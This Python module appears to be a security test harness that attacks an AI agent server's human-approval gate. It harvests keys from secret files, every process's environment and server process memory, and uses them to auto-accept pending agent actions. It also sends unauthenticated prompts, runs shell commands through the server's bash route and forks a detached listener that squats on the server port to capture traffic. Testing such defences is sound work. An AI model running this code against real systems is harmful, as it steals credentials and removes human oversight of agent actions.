"""Attempts to approve, prompt or run something without a person: with keys that were found, or that leaked."""

import http.client
import json
import os
import selectors
import socket
import time

from attempt import LET_IN, attempt, wait_for
from reading import KEY, all_processes, keys_in_memory
from reaching import answer, taken

MOST_CANDIDATES = 4000
SQUATTERS = 50


def candidates(to):
    """Whatever looks like a key, wherever this process can look; the likeliest places first."""
    tried = set()
    files = (to.owner_token_file, to.secret_key_file, to.model_key_file)
    places = [lambda path=path: [open(path, "rb").read()] for path in files]
    places.append(lambda: list(os.environb.values()))
    places += [lambda file=file: all_processes(file) for file in ("environ", "cmdline")]
    places += [lambda pid=pid: keys_in_memory(pid) for pid in (to.server_pid, to.daemon_pid)]
    for place in places:
        try:
            found = {key for thing in place() for key in KEY.findall(thing)} - tried
        except OSError:
            continue
        for key in list(found)[: MOST_CANDIDATES - len(tried)]:
            yield key.decode()
        tried |= found


def request(to, method, path, key, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", to.port, timeout=20)
    headers = {"Content-Type": "application/json"}
    if key is not None:
        headers["X-Session-API-Key"] = key
    connection.request(method, path, None if body is None else json.dumps(body), headers)
    reply = connection.getresponse()
    return reply.status, reply.read()


def carried_out(to, method, path, key, body=None):
    """A request that the server takes. What it does then takes a moment."""
    status, said = request(to, method, path, key, body)
    if not 200 <= status < 300:
        raise PermissionError(f"{status}: {said[:100]}")
    time.sleep(2)
    return LET_IN


def server_key(to):
    """The key that the server takes, if one was found."""
    for key in candidates(to):
        if request(to, "GET", "/api/conversations/count", key)[0] == 200:
            return key
    raise PermissionError("no key was found")


def accept(to, key, conversation):
    conversation = f"/api/conversations/{conversation}"
    carried_out(to, "POST", f"{conversation}/events/respond_to_confirmation", key, {"accept": True})
    # It may take the answer and not act on it.
    wait_for(lambda: b'"running"' not in request(to, "GET", conversation, key)[1], "the session does not come to rest")


@attempt
def approve_at_server(to):
    return accept(to, server_key(to), to.pending["approve_at_server"]["conversation"])


@attempt
def tcp_with_leaked_key(to):
    return accept(to, to.session_key, to.pending["tcp_with_leaked_key"]["conversation"])


@attempt
def tcp_without_key(to):
    body = {"role": "user", "content": [{"type": "text", "text": f"say: {to.words['tcp_without_key']}"}], "run": True}
    return carried_out(to, "POST", f"/api/conversations/{to.victim_conversation}/events", None, body)


@attempt
def unreviewed_route(to):
    """The server's own shell, for whoever has the key."""
    body = {"command": f"touch {to.workspace}/got/{to.name}-ran", "timeout": 10}
    return carried_out(to, "POST", "/api/bash/start_bash_command", to.session_key, body)


@attempt
def approve_at_daemon(to):
    waiting = to.pending["approve_at_daemon"]
    for token in candidates(to):
        body = json.dumps(
            {
                "operation_id": "session.approval.decide",
                "input": {"approval_id": waiting["approval_id"], "decision": "accept"},
                "client_action_id": f"found-{token[:8]}",
                "capability_generation": waiting["generation"],
            }
        ).encode()
        head = (
            f"POST /v1/sessions/{waiting['session']}/actions HTTP/1.1\r\nHost: gatepost\r\nConnection: close\r\n"
            f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        said = answer(to.socket, head.encode() + body)
        if b" 401 " not in said[:40]:
            taken(said)
            return LET_IN
    raise PermissionError("no token was found")


@attempt
def look_at_changes(to):
    """The second part of ``fsmonitor_by_route``: with a key, the routes that run git on a repository."""
    routes = ("/api/git/changes", "/api/git/diff", "/api/git/commits")
    answers = [request(to, "GET", f"{route}?path={to.repository}", to.session_key)[0] for route in routes]
    if all(status in (401, 403, 404, 405) for status in answers):
        raise PermissionError(f"{answers}")
    time.sleep(1)
    return LET_IN


@attempt
def port_squatting(to):
    """Wait for the port of a server that ends, and keep what is sent there."""
    if os.fork():
        return
    os.setsid()
    until = time.monotonic() + 60
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < until:
            # Many, since whoever listens there too gets a share of what comes.
            if len(selector.get_map()) < SQUATTERS:
                listener = socket.socket()
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                try:
                    listener.bind(("127.0.0.1", to.port))
                    listener.listen()
                    selector.register(listener, selectors.EVENT_READ)
                except OSError:
                    listener.close()
            for ready, _ in selector.select(timeout=0.01):
                connection, _ = ready.fileobj.accept()
                connection.settimeout(1)
                try:
                    to.keep(connection.recv(65536))
                except OSError:
                    pass
                connection.close()
